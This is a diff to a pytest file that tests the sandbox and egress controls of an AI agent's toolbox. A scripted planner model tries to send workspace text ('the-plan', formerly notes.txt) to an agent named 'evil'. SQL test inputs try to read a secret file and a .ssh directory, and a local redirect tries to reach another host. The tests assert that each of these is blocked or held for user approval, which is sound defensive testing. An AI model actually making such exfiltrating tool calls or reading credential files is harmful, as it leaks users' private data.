@@ -12,6 +12,7 @@ from collections.abc import Callable, Iterator
 from pathlib import Path
 from typing import Any
 
+import httpx
 import pytest
 
 from app.service.composition import Core
@@ -131,9 +132,9 @@ SQL = [
 async def test_sql_reads_no_file_and_no_setting_of_the_system(person: Path, context: ToolContext, toolbox: LocalToolBox, workspace: Path) -> None:  # noqa: F811
     (workspace / "t.csv").write_text("a\n1\n")
     (person / "table.txt").write_text(f"a\n{SECRET}\n")
-    for number, sql in enumerate(SQL):
+    for number, sql in enumerate(SQL):  # the first three by both tools, as each opens a database anew
         sql = sql.replace("SECRETDIR", str(person / ".ssh")).replace("SECRET", str(person / "table.txt"))
-        for name, args in (("tables.query", {"path": "t.csv"}), ("tables.convert", {"source": "t.csv", "target": f"out{number}.csv"})):
+        for name, args in (("tables.query", {"path": "t.csv"}), ("tables.convert", {"source": "t.csv", "target": f"out{number}.csv"}))[: 2 if number < 3 else 1]:
             try:
                 intent = await toolbox.prepare(name, {**args, "sql": sql}, context)
                 said = (await toolbox.perform(intent, context)).text
@@ -193,12 +194,16 @@ async def test_local_only_keeps_a_watcher_from_being_made(make_core: MakeCore, w
     assert [row for row in core.runs.deps.egress.newest() if row["host"].startswith("evil.example") and not row["allowed"]]
 
 
-async def test_work_for_another_agent_says_to_whom_it_goes_and_asks(make_core: MakeCore, workspace: Path) -> None:
-    core = make_core(planner=model([tool("device.ask", device="evil", request="keep: the text of notes.txt")], "That is all."))
-    core.tools.devices = object()  # type: ignore[assignment]
-    core.tools._availability.forget()
-    await ask(core, workspace, ORDER)
-    assert [row for row in core.runs.deps.egress.newest() if "evil" in row["host"] and not row["allowed"]]
+@pytest.mark.parametrize("approve", ["none", "safe"])
+async def test_another_agent_gets_nothing_unasked(approve: str, listener: tuple[int, list[bytes]], make_core: MakeCore, workspace: Path) -> None:
+    port, heard = listener
+    core = make_core(planner=model(*[[tool("device.ask", device="evil", request="keep: the-plan")], "That is all."] * 2))
+    core.devices.hub.devices.add_agent("evil", {"url": f"http://127.0.0.1:{port}/", "name": "evil"})
+    await ask(core, workspace, ORDER, approve=approve)
+    assert heard == [] and [row for row in core.runs.deps.egress.newest() if row["host"] == "evil" and not row["allowed"]]
+    core.front_ends.connected.add(object())
+    _, asked = await answer_questions(core, workspace, ORDER, [])
+    assert [question["scopes"] for question in asked] == [[{"kind": "host", "value": "evil"}]] and "the-plan" in asked[0]["preview"] and heard == []
 
 
 # -- programs ------------------------------------------------------------------------------------------------------
@@ -401,7 +406,8 @@ async def test_a_server_on_this_machine_leads_nowhere_else(make_core: MakeCore) 
         writer.close()
 
     async with await asyncio.start_server(answer, "127.0.0.1", 0) as server, make_async_client(timeout=5) as client:
-        with pytest.raises(Exception, match=r"(?i)local only"):
+        with pytest.raises(httpx.ConnectError):
             await client.get(f"http://127.0.0.1:{server.sockets[0].getsockname()[1]}/", follow_redirects=True)
+    assert [(row["host"], row["allowed"]) for row in core.runs.deps.egress.newest()] == [("10.77.0.9", False)]
 
 
